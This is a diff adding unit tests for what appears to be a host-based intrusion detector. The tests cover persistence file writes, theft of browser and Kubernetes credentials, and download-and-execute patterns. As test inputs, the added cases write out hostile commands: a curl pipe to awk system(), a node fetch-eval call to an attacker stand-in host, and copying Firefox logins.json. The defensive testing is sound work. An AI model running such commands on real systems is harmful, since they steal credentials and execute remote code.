@@ -265,6 +265,12 @@ def test_bytes_out_threshold(fire: Any, ev: Any) -> None:
     ("/etc/sudoers.d/code", "persistence_sudoers_write"),
     ("/etc/systemd/system/x.service", "persistence_service_unit_write"),
     ("/home/code/.config/systemd/user/x.service", "persistence_service_unit_write"),
+    ("/home/code/.ssh/config", "persistence_shell_rc_write"),
+    ("/home/code/.vim/plugin/x.vim", "persistence_shell_rc_write"),
+    ("/home/code/.config/environment.d/10-path.conf", "persistence_shell_rc_write"),
+    ("/home/code/.tmux.conf", "persistence_shell_rc_write"),
+    ("/etc/apt/apt.conf.d/00x", "persistence_service_unit_write"),
+    ("/etc/passwd", "persistence_account_file_write"),
 ])
 def test_persistence_writes(fire: Any, ev: Any, path: str, rule: str) -> None:
     assert fire(ev.exec(10, "/usr/bin/python3", "python3", "x.py"), ev.open(10, path, kind="write")) == [rule]
@@ -790,3 +796,79 @@ def test_downloaded_code_through_filters_and_shell_strings(fire: Any, ev: Any) -
     assert fire(ev.exec(12, "/usr/bin/python3", "python3", "-c",
                         "import urllib.request as u; u.urlopen(x).read(); import subprocess; "
                         "subprocess.run('echo done', shell=True)")) == []
+
+
+def test_account_tools_write_the_account_files(fire: Any, ev: Any) -> None:
+    for tool in ("useradd", "passwd", "chpasswd"):
+        exe = ev.exec(30, f"/usr/sbin/{tool}", tool, "x")
+        assert fire(exe, ev.open(30, "/etc/passwd", kind="write", comm=tool)) == [], tool
+    # reading it is what every ls -l and id does
+    assert fire(ev.exec(31, "/usr/bin/id", "id"), ev.open(31, "/etc/passwd", comm="id")) == []
+
+
+def test_browser_credential_stores(fire: Any, ev: Any) -> None:
+    """Saved logins and cookies read, or opened read-write as SQLite does, by another program;
+    the browser itself and a file of the same name outside a profile stay quiet."""
+    ff = "/home/code/.mozilla/firefox/ab12.default-release/logins.json"
+    chrome = "/home/code/.config/google-chrome/Default/Login Data"
+    assert fire(ev.exec(10, "/usr/bin/cp", "cp", ff, "/tmp/x"), ev.open(10, ff, comm="cp")) == [
+        "browser_credential_read"]
+    assert fire(ev.exec(11, "/usr/bin/python3", "python3", "-c", "x"),
+                ev.open(11, chrome, kind="write", comm="python3")) == ["browser_credential_read"]
+    assert fire(ev.exec(12, "/usr/lib/firefox/firefox", "firefox"), ev.open(12, ff, comm="firefox")) == []
+    assert fire(ev.exec(13, "/usr/bin/cat", "cat", "logins.json"),
+                ev.open(13, "/workspace/test/fixtures/logins.json", comm="cat")) == []
+
+
+def test_service_account_token(fire: Any, ev: Any) -> None:
+    token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+    assert fire(ev.exec(10, "/usr/bin/cat", "cat", token), ev.open(10, token, comm="cat")) == [
+        "cloud_credential_read"]
+    assert fire(ev.exec(11, "/usr/bin/kubectl", "kubectl", "get", "pods"),
+                ev.open(11, token, comm="kubectl")) == []
+
+
+def test_download_piped_to_command_runner(fire: Any, ev: Any) -> None:
+    """curl URL | awk '{system($0)}': awk runs the downloaded lines; awk that only prints,
+    or a runner fed by a local file, is quiet."""
+    got = fire(ev.exec(400, "/bin/bash", "bash", "-c", "curl -s http://198.18.0.2/x | awk '{system($0)}'",
+                       ppid=100),
+               ev.fork(400, 401, ppid=100), ev.exec(401, "/usr/bin/awk", "awk", "{system($0)}", ppid=400))
+    assert got == ["download_piped_to_command_runner"]
+    assert fire(ev.exec(410, "/bin/bash", "bash", "-c", "curl -s http://198.18.0.2/x | awk '{print $1}'",
+                        ppid=100),
+                ev.fork(410, 411, ppid=100), ev.exec(411, "/usr/bin/awk", "awk", "{print $1}", ppid=410)) == []
+    assert fire(ev.exec(420, "/bin/bash", "bash", "-c", "cat list | xargs -I{} sh -c {}", ppid=100),
+                ev.fork(420, 421, ppid=100),
+                ev.exec(421, "/usr/bin/xargs", "xargs", "-I{}", "sh", "-c", "{}", ppid=420)) == []
+
+
+def test_node_command_loop_and_fetch_eval(fire: Any, ev: Any) -> None:
+    """node holding an outside connection runs sh -c (child_process.exec on what the socket
+    sent); npm running a lifecycle script, and an agent running its commands, do not count."""
+    node = ev.exec(500, "/usr/bin/node", "node", "-e", "loop", ppid=100)
+    conn = ev.connect(500, "198.18.0.2", 8443, comm="node")
+    got = fire(node, conn, ev.fork(500, 501, comm="node"),
+               ev.exec(501, "/bin/sh", "/bin/sh", "-c", "id", ppid=500))
+    assert got == ["shell_command_by_network_process"]
+    npm = ev.exec(510, "/usr/bin/node", "node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install",
+                  ppid=100)
+    assert fire(npm, ev.connect(510, "104.16.0.35", 443, comm="node"), ev.fork(510, 511, comm="node"),
+                ev.exec(511, "/bin/sh", "/bin/sh", "-c", "node-gyp rebuild", ppid=510)) == []
+    got = fire(ev.exec(520, "/usr/bin/node", "node", "-e",
+                       "fetch(process.env.ATK+'/x.js').then(r=>r.text()).then(t=>eval(t))", ppid=100))
+    assert got == ["interpreter_runs_downloaded_code"]
+
+
+def test_sg_is_a_privilege_tool_that_reads_gshadow(fire: Any, ev: Any) -> None:
+    got = fire(ev.exec(10, "/usr/bin/sg", "sg", "root", "-c", "id"),
+               ev.open(10, "/etc/gshadow", comm="sg"))
+    assert got == ["privilege_tool_exec"]
+
+
+def test_editor_saving_its_own_history(fire: Any, ev: Any) -> None:
+    vim = ev.exec(10, "/usr/bin/vim.basic", "vim", "-es", "README.md")
+    assert fire(vim, ev.rename(10, "/home/code/.viminfz.tmp", "/home/code/.viminfo", comm="vim")) == []
+    assert fire(ev.exec(11, "/usr/bin/rm", "rm", "-f", "/home/code/.viminfo"),
+                ev.unlink(11, "/home/code/.viminfo", comm="rm")) == ["history_file_tampering"]
+
